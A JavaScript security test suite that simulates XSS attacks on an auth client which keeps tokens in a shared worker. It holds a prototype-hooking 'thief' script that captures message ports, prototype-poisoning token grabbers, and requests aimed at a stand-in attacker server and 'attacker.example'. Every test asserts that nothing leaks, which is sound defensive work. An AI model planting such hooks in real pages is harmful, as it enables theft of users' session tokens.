/**
 * A script that runs before the library, captures every worker and port, and tries to get a token.
 *
 * The worker's own policy would stop the worker from sending anything to the attacker. Here it allows the foreign
 * server's address, so that only the client itself can prevent a leak.
 */
import assert from 'node:assert/strict';
import { search } from '../support/secrets.mjs';
import { story } from '../support/stage.mjs';
import { startStranger } from '../support/stranger.mjs';

/** Keeps every worker and port that is created. The client sends its requests through a port that belongs to no worker. */
const THIEF = `
  const held = (globalThis.held = { workers: [], ports: new Set(), heard: [] });
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (...args) {
    if (!held.ports.has(this)) {
      held.ports.add(this);
      this.addEventListener('message', ({ data }) => held.heard.push(data));
    }
    return postMessage.apply(this, args);
  };
  const Native = SharedWorker;
  globalThis.SharedWorker = class extends Native {
    constructor(...args) { super(...args); held.workers.push(this.port); }
  };
  // Says something on the page's own channel, and tells what came back; not every message gets an answer.
  globalThis.say = (message, patience) => new Promise((done) => {
    const port = [...held.ports].find((port) => !held.workers.includes(port));
    const id = 1e6 + Math.floor(Math.random() * 1e6);
    const listen = ({ data }) => { if (data.id === id) done(data); };
    port.addEventListener('message', listen);
    if (patience) setTimeout(() => done('nothing'), patience);
    postMessage.call(port, { id, ...message });
  });
`;

const OPTIONS = { scripts: { '/thief.js': THIEF } };

async function rob(stage, play) {
  const stranger = await startStranger();
  stage.site.settings.connect.push(stranger.url);
  stage.site.settings.before += '<script src="/thief.js"></script>';
  try {
    await stage.signIn();
    assert.equal(await stage.call('Me'), 200);
    await play(stranger);
    const loot = [
      ...stage.provider.issued.secrets(),
      ...[...stage.provider.issued.codes].map((code) => ['authorization code', code]),
    ];
    assert.deepEqual(
      search(
        loot,
        stranger.taken.map((text) => ['the stranger’s hands', text]),
      ),
      [],
    );
  } finally {
    await stranger.close();
  }
}

story('XSS-06 P0: a script with access to the page’s port cannot extend the list of APIs', OPTIONS, (stage) =>
  rob(stage, async (stranger) => {
    const { config } = stage.site.settings;
    const options = { ...config, redirectUri: stage.site.url, api: [...config.api, stranger.url] };
    const { error } = await stage.page.run('(options) => say({ op: "configure", options })', options);
    assert.equal(error.code, 'config_error');
    const answer = await stage.page.run(
      `(url) => say({ op: 'fetch', url, once: false, init: { method: 'GET', headers: [] } })`,
      stranger.url,
    );
    assert.equal(answer.error.code, 'request_blocked');
    assert.deepEqual(stranger.taken, []);
  }),
);

story('XSS-03 P0: no message to the vault returns a token', OPTIONS, (stage) =>
  rob(stage, async () => {
    const ops = [
      'accessToken',
      'token',
      'tokens',
      'session',
      'refresh',
      'begin',
      'export',
      'constructor',
      '__proto__',
      'toString',
      'prepare',
    ];
    const shapes = [
      {},
      { params: {}, returnTo: '/www/' },
      { params: { scope: 'openid', redirect_uri: 'https://attacker.example/' }, returnTo: '/' },
    ];
    const messages = ops.flatMap((op) => shapes.map((shape) => ({ op, ...shape })));
    const answers = await stage.page.run(
      '(messages) => Promise.all(messages.map((message) => say(message, 700)))',
      messages,
    );
    answers.forEach((answer, index) => {
      const found = search(stage.provider.issued.secrets(), [['the answer', JSON.stringify(answer)]]);
      assert.deepEqual(found, [], messages[index].op);
    });
  }),
);

story('XSS-11 P1: a script’s own port reaches the session but returns no token', OPTIONS, (stage) =>
  rob(stage, async (stranger) => {
    const { config } = stage.site.settings;
    const answers = await stage.page.run(
      `async (config, url) => {
      const open = async (options) => {
        const { port1, port2 } = new MessageChannel();
        held.workers[0].postMessage({ port: port2, wasmUrl: new URL('/pkg/wasm/valet_key.wasm', location.href).href }, [port2]);
        const answers = {};
        const waits = {};
        port1.onmessage = ({ data }) => (answers[data.id] = data, waits[data.id]?.());
        const ask = (message) => new Promise((done) => (waits[message.id] = done, port1.postMessage(message)));
        await ask({ id: 1, op: 'configure', options });
        await Promise.all([
          ask({ id: 4, op: 'accessToken' }),
          ask({ id: 2, op: 'fetch', url, once: false, init: { method: 'GET', headers: [] } }),
          ask({ id: 3, op: 'fetch', url: config.api[0] + 'me', once: false, init: { method: 'GET', headers: [] } }),
          ask({ id: 5, op: 'session' }),
        ]);
        return answers;
      };
      return [await open({ ...config, api: [url] }), await open({ issuer: config.issuer, clientId: 'demo', allowLoopbackHttp: true, api: config.api })];
    }`,
      config,
      stranger.url,
    );
    const [wider, same] = answers;
    assert.equal(wider[1].error, undefined, 'another list makes another client');
    assert.deepEqual(
      [wider[2].error.code, wider[3].error.code, wider[5].value],
      ['login_required', 'request_blocked', null],
      'without a session',
    );
    assert.equal(same[2].error.code, 'request_blocked');
    assert.equal(same[3].value.init.status, 200, 'the documented limit: a script of this origin can act as the user');
    assert.equal(same[5].value.sub, 'alice');
    assert.equal(same[4].error.code, 'config_error', 'a worker gives out no token');
    const found = search(stage.provider.issued.secrets(), [['the answers', JSON.stringify(answers)]]);
    assert.deepEqual(found, []);
  }),
);

story('a redirected API response does not forward the token', OPTIONS, (stage) =>
  rob(stage, async (stranger) => {
    stage.api.redirect('/me', `${stranger.url}redirected`);
    await stage.page.click('button', 'Me');
    await stage.page.find('heading', 'network_error');
    assert.deepEqual(stranger.taken, []);
  }),
);

story('XSS-02 P0: changed prototypes of the page do not affect the worker', OPTIONS, (stage) =>
  rob(stage, async () => {
    await stage.page
      .run(`async () => {
      globalThis.grabbed = [];
      const grab = (value) => { try { grabbed.push(JSON.stringify(value)); } catch {} };
      for (const name of ['token', 'access_token', 'refresh_token', 'id_token', 'value', 'record', 'authorization']) {
        Object.defineProperty(Object.prototype, name, { configurable: true, set(value) { grab(value); }, get() { return undefined; } });
      }
      const { call } = Function.prototype;
      Function.prototype.call = function (...args) { grab(args); return Reflect.apply(call, this, args); };
      const { then } = Promise.prototype;
      Promise.prototype.then = function (done, ...rest) {
        return Reflect.apply(then, this, [typeof done === 'function' ? (value) => (grab(value), done(value)) : done, ...rest]);
      };
    }`)
      .catch(() => {});
    await stage.page.click('button', 'Refresh');
    await stage.page.until('the renewal', () => stage.provider.count('token') === 2);
    const grabbed = await stage.page.driver.executeScript('return window.grabbed.join()'); // the page's promises are replaced
    assert.deepEqual(search(stage.provider.issued.secrets(), [['what was grabbed', grabbed]]), []);
    await stage.page.reload();
    await stage.page.see('Signed in as alice');
  }),
);
